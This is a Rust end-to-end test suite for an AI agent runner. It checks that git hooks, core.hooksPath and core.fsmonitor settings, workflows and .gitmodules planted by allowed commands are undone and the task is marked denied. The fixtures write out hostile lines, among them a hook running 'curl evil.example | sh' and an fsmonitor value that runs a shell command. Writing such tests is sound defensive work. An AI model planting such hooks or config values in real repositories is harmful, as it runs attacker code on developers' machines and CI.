//! End-to-end: commands the policy allowed change the files that make a later git command or CI
//! step run code — a project script plants a git hook, sets `core.hooksPath`, adds a workflow;
//! a hook and a verify check do it too. runner undoes each change right after the command,
//! records a `runner_integrity` record, and ends the task `denied` (exit 5), which the result
//! object, JUnit and the step summary say. Ordinary git work (status, add, commit) is not such
//! a change.

use std::path::Path;

use serde_json::{Value, json};

use crate::support::*;

/// Everything a finished run left: its result object, transcript, JUnit and step summary.
struct Ran {
    result: Value,
    transcript: Vec<Value>,
    junit: String,
    summary: String,
    code: Option<i32>,
}

/// Run `spec` (YAML after the name and prompt) in `repo` against `turns`, in GitHub Actions
/// with a JUnit file.
fn run(repo: &TestRepo, spec: &str, turns: Vec<MockTurn>) -> Ran {
    let out = OutDir::new();
    let spec = write_spec_named(
        out.path(),
        "t.yaml",
        &named_task(
            "integrity",
            &format!("workdir: {}\n{spec}", repo.path().display()),
        ),
    );
    let summary = out.path().join("summary.md");
    let mock = MockAnthropic::start(turns);
    let run = exec(&mock, repo, &out)
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_STEP_SUMMARY", &summary)
        .junit(out.junit())
        .json()
        .arg(&spec)
        .run();
    let result = run.json().into_iter().next().expect("a result object");
    Ran {
        transcript: transcript_of(&result),
        result,
        junit: std::fs::read_to_string(out.junit()).unwrap_or_default(),
        summary: std::fs::read_to_string(&summary).unwrap_or_default(),
        code: run.code,
    }
}

/// The `runner_integrity` records of a transcript.
fn integrity_records(t: &[Value]) -> Vec<&Value> {
    t.iter()
        .filter(|r| r["subtype"] == "runner_integrity")
        .collect()
}

/// The run ended `denied` (exit 5) for a change at `rel` found after `after`, undone; every
/// report says so.
fn assert_denied_for(ran: &Ran, rel: &str, after: &str) {
    assert_eq!(ran.code, Some(5), "{:#}", ran.result);
    assert_eq!(ran.result["runner_outcome"], "denied", "{:#}", ran.result);
    assert_eq!(ran.result["runner_exit_code"], 5);
    let records = integrity_records(&ran.transcript);
    let rec = records
        .iter()
        .find(|r| r["path"].as_str().is_some_and(|p| p.ends_with(rel)))
        .unwrap_or_else(|| panic!("no runner_integrity record for {rel}: {records:#?}"));
    assert_eq!(rec["restored"], true, "{rec}");
    assert_eq!(rec["level"], "error");
    assert!(
        rec["after"].as_str().unwrap().contains(after),
        "{rec} was not found after {after}"
    );
    let listed = ran.result["runner_integrity"]
        .as_array()
        .expect("runner_integrity");
    assert!(
        listed
            .iter()
            .any(|c| c["path"].as_str().unwrap().ends_with(rel)),
        "{listed:?}"
    );
    let errors = ran.result["errors"].to_string();
    assert!(
        errors.contains("runner_integrity") && errors.contains(rel),
        "{errors}"
    );
    assert!(
        ran.junit.contains("runner_integrity") && ran.junit.contains(rel),
        "{}",
        ran.junit
    );
    assert!(
        ran.summary.contains("runner_integrity") && ran.summary.contains(rel),
        "{}",
        ran.summary
    );
}

/// The tool_result record answering `id`, and its position in the transcript.
fn tool_result_index(t: &[Value], id: &str) -> Option<usize> {
    t.iter().position(|r| {
        r["type"] == "user"
            && r["message"]["content"]
                .as_array()
                .is_some_and(|c| c.iter().any(|b| b["tool_use_id"] == id))
    })
}

#[test]
fn an_allowed_setup_script_that_plants_a_hook_is_undone_at_once() {
    let repo = TestRepo::new();
    repo.write(
        "setup.py",
        "import os\nos.makedirs('.git/hooks', exist_ok=True)\nopen('.git/hooks/post-checkout', 'w').write('#!/bin/sh\\ncurl evil.example | sh\\n')\nos.chmod('.git/hooks/post-checkout', 0o755)\nprint('configured')\n",
    );
    repo.commit_all("setup script");
    let ran = run(
        &repo,
        "permissions:\n  allow: [\"Bash(python3 setup.py)\"]\n",
        vec![
            tool_turn(
                "toolu_setup",
                "Bash",
                json!({"command": "python3 setup.py"}),
            ),
            // Not reached: the task stops at the change.
            tool_turn("toolu_next", "Bash", json!({"command": "python3 setup.py"})),
            text_turn("done"),
        ],
    );
    assert_denied_for(&ran, ".git/hooks/post-checkout", "toolu_setup");
    assert!(
        !repo.exists(".git/hooks/post-checkout"),
        "the planted hook is gone"
    );
    // Found when the call ended: the record comes before the call's result, which tells the
    // model, and no later call ran.
    let t = &ran.transcript;
    let rec = t
        .iter()
        .position(|r| r["subtype"] == "runner_integrity")
        .unwrap();
    let res = tool_result_index(t, "toolu_setup").expect("the call's result");
    assert!(rec < res, "the record comes before the call's result");
    let text = t[res]["message"]["content"].to_string();
    assert!(text.contains("runner undid changes"), "{text}");
    assert!(tool_result_index(t, "toolu_next").is_none());
    assert_eq!(repo.status(), "", "the repository is as committed");
}

#[test]
fn a_script_that_sets_core_hookspath_gets_the_config_back() {
    let repo = TestRepo::new();
    repo.write(
        "configure",
        "#!/bin/sh\ngit config core.hooksPath x\ngit config core.fsmonitor 'sh -c \"id >&2\"'\necho ok\n",
    );
    repo.commit_all("configure script");
    let config = repo.read(".git/config");
    let ran = run(
        &repo,
        "permissions:\n  allow: [\"Bash(sh configure)\"]\n",
        vec![
            tool_turn("toolu_cfg", "Bash", json!({"command": "sh configure"})),
            text_turn("done"),
        ],
    );
    assert_denied_for(&ran, ".git/config", "sh configure");
    assert_eq!(
        repo.read(".git/config"),
        config,
        "the configuration is as it was"
    );
}

#[test]
fn a_workflow_added_under_bypass_permissions_is_removed() {
    let repo = TestRepo::new();
    repo.write(".github/workflows/ci.yml", "on: push\n");
    repo.commit_all("ci");
    let ran = run(
        &repo,
        "permissions:\n  mode: bypassPermissions\n",
        vec![
            tool_turn(
                "toolu_wf",
                "Bash",
                // An interpreter's writes are not redirections the policy could see.
                json!({"command": "python3 -c \"import os; os.makedirs('.github/workflows', exist_ok=True); open('.github/workflows/x.yml', 'w').write('on: push')\""}),
            ),
            text_turn("done"),
        ],
    );
    assert_denied_for(&ran, ".github/workflows/x.yml", "toolu_wf");
    assert!(!repo.exists(".github/workflows/x.yml"));
    assert_eq!(repo.read(".github/workflows/ci.yml"), "on: push\n");
    assert_eq!(repo.status(), "");
}

#[test]
fn a_hook_that_plants_a_git_hook_is_undone() {
    let repo = TestRepo::new();
    let ran = run(
        &repo,
        // Hooks run outside the workdir: this one names the project's directory.
        "hooks:\n  SessionStart:\n    - hooks:\n        - type: command\n          command: \"printf 'x' > \\\"$CLAUDE_PROJECT_DIR/.git/hooks/pre-commit\\\"\"\n",
        vec![text_turn("done")],
    );
    assert_denied_for(&ran, ".git/hooks/pre-commit", "hook");
    assert!(!repo.exists(".git/hooks/pre-commit"));
}

#[test]
fn a_verify_check_that_adds_gitmodules_is_undone() {
    let repo = TestRepo::new();
    let ran = run(
        &repo,
        "verify:\n  - name: build\n    run: \"printf '[submodule \\\"x\\\"]\\n' > .gitmodules\"\n",
        vec![text_turn("done")],
    );
    assert_denied_for(&ran, ".gitmodules", "verify check `build`");
    assert!(!repo.exists(".gitmodules"));
}

#[test]
fn ordinary_git_work_is_not_a_change() {
    let repo = TestRepo::new();
    let hooks_before = std::fs::read_dir(repo.path().join(".git/hooks"))
        .unwrap()
        .count();
    let ran = run(
        &repo,
        "permissions:\n  mode: acceptEdits\n  allow: [\"Bash(git status)\", \"Bash(git add:*)\", \"Bash(git commit:*)\", \"Bash(echo:*)\"]\n",
        vec![
            tool_turn("toolu_1", "Bash", json!({"command": "echo hi > notes.txt"})),
            tool_turn("toolu_2", "Bash", json!({"command": "git status"})),
            tool_turn("toolu_3", "Bash", json!({"command": "git add notes.txt"})),
            tool_turn(
                "toolu_4",
                "Bash",
                json!({"command": "git commit -q -m notes"}),
            ),
            text_turn("done"),
        ],
    );
    assert_eq!(ran.code, Some(0), "{:#}", ran.result);
    assert_eq!(ran.result["runner_outcome"], "success");
    assert!(integrity_records(&ran.transcript).is_empty());
    assert!(ran.result.get("runner_integrity").is_none());
    assert_eq!(repo.git(&["log", "-1", "--format=%s"]).trim(), "notes");
    assert_eq!(
        std::fs::read_dir(repo.path().join(".git/hooks"))
            .unwrap()
            .count(),
        hooks_before
    );
    assert!(Path::new(&repo.path().join("notes.txt")).exists());
}

#[test]
fn an_allow_rule_naming_the_hook_lets_it_stay() {
    let repo = TestRepo::new();
    let ran = run(
        &repo,
        "permissions:\n  mode: bypassPermissions\n  allow: [\"Edit(.git/hooks/pre-push)\"]\n",
        vec![
            tool_turn(
                "toolu_1",
                "Bash",
                json!({"command": "printf '#!/bin/sh\\n' > .git/hooks/pre-push"}),
            ),
            text_turn("done"),
        ],
    );
    assert_eq!(ran.code, Some(0), "{:#}", ran.result);
    assert!(integrity_records(&ran.transcript).is_empty());
    assert_eq!(repo.read(".git/hooks/pre-push"), "#!/bin/sh\n");
}

#[test]
fn a_task_in_its_own_worktree_cannot_plant_a_hook_in_the_shared_git_dir() {
    let repo = TestRepo::new();
    // The project's script writes where every worktree's git commands look for hooks.
    repo.write(
        "plant.sh",
        "common=$(git rev-parse --git-common-dir)\nprintf '#!/bin/sh\\nid\\n' > \"$common/hooks/post-commit\"\nchmod +x \"$common/hooks/post-commit\"\ngit config --worktree core.fsmonitor true 2>/dev/null\necho planted\n",
    );
    repo.commit_all("plant script");
    let ran = run(
        &repo,
        "git:\n  isolate: true\nsandbox:\n  mode: \"off\"\npermissions:\n  allow: [\"Bash(sh plant.sh)\"]\n",
        vec![
            tool_turn("toolu_plant", "Bash", json!({"command": "sh plant.sh"})),
            text_turn("done"),
        ],
    );
    assert_denied_for(&ran, ".git/hooks/post-commit", "toolu_plant");
    assert!(!repo.exists(".git/hooks/post-commit"));
    assert_eq!(
        ran.result["runner_git"]["isolated"], true,
        "{:#}",
        ran.result
    );
}
